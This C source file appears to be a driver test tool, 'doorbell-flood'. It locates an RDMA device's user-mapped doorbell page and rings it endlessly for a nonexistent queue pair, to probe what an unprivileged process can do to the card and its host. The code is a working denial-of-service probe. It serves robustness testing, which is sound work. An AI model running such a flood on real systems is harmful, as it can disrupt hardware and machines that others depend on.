/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * usage: doorbell-flood
 *
 * Ring the send doorbell of a page that the driver has mapped for this process, without end, for a QP that does not
 * exist. What a program without rights can do to the card, and to the machine that it is in.
 */
#include "common.h"

#include <stdio.h>
#include <string.h>

#define QPN UINT64_C(0xfffff0)
#define QPN_SHIFT 40

/* The page of doorbells: the only one of the card's that may be written. */
static volatile uint64_t *doorbell_page(void)
{
    char line[512];
    FILE *maps = fopen("/proc/self/maps", "r");
    void *page = NULL;

    check(maps);
    while (fgets(line, sizeof(line), maps)) {
        if (strstr(line, "/dev/infiniband/uverbs") && strstr(line, "w-s ")) {
            check(sscanf(line, "%p", &page) == 1);
            break;
        }
    }
    fclose(maps);
    return page;
}

int main(void)
{
    volatile uint64_t *doorbell;
    struct device device;

    open_device(&device);
    doorbell = doorbell_page();
    check(doorbell);
    puts("flooding");
    fflush(stdout);
    for (;;) {
        *doorbell = QPN << QPN_SHIFT;
    }
}
